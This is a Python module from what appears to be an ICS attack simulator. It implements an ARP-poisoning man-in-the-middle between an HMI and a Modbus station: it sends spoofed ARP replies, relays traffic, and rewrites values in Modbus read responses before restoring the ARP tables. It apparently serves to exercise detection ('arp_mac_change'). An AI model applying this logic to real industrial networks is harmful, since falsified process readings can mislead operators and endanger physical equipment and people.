"""Somebody puts himself between two by ARP: both send to him, and he hands on what he likes, changed as he likes."""

import asyncio
from dataclasses import replace
from typing import ClassVar, Final

from simulator.attacks.attack import Attack, Field
from simulator.attacks.packets import IPV4, REPLY, Segment, address, arp

FOR_S: Final = 6.0
AGAIN_S: Final = 0.5
"""How often both are told again where the other allegedly is."""
VALUES: Final = 9
"""Where the values of a Modbus answer begin: after its header, the function and the count."""
READ: Final = 3


class ArpMan(Attack):
    """Puts himself between an HMI and a station by ARP, hands on all they say, and changes the values on their way.

    `changed` counts the answers that were changed.
    """

    NAME = "arp_man_in_the_middle"
    CHECKS = ("arp_mac_change",)
    WAY = "modbus"
    FALSE: ClassVar[bytes] = b"\x00\x01"
    """What each value is made."""

    def __init__(self) -> None:
        self.changed = 0

    async def run(self, on: Field) -> None:
        """Poison, hand on, and in the end tell both the truth, so that they find each other again."""
        station, port = on.targets[self.WAY]
        try:
            async with asyncio.timeout(FOR_S), asyncio.TaskGroup() as group:
                group.create_task(self._poison(on, station))
                group.create_task(self._hand_on(on, port))
        except TimeoutError:
            pass
        finally:
            for ip, other in ((station, on.hmi), (on.hmi, station)):
                on.on_wire.send(arp(REPLY, mac=on.macs[ip], ip=ip, to_mac=on.macs[other], to_ip=other))

    async def _poison(self, on: Field, station: str) -> None:
        while True:
            for ip, other in ((station, on.hmi), (on.hmi, station)):
                on.on_wire.send(arp(REPLY, mac=on.on_wire.mac, ip=ip, to_mac=on.macs[other], to_ip=other))
            await asyncio.sleep(AGAIN_S)

    async def _hand_on(self, on: Field, port: int) -> None:
        macs = {address(ip): mac for ip, mac in on.macs.items()}
        while True:
            frame = await on.on_wire.hear()
            to = macs.get(frame[30:34])
            if frame[:6] != on.on_wire.mac or frame[12:14] != IPV4 or to is None:
                continue
            segment = Segment.of(frame)
            if segment is None:
                on.on_wire.send(to + on.on_wire.mac + frame[12:])
                continue
            on.on_wire.send(replace(self._false(segment, port), to_mac=to, mac=on.on_wire.mac).frame())

    def _false(self, segment: Segment, port: int) -> Segment:
        data = segment.data
        if segment.port != port or len(data) <= VALUES or data[7] != READ:
            return segment
        self.changed += 1
        return replace(segment, data=data[:VALUES] + self.FALSE * ((len(data) - VALUES) // 2))


ATTACKS: Final[tuple[type[Attack], ...]] = (ArpMan,)
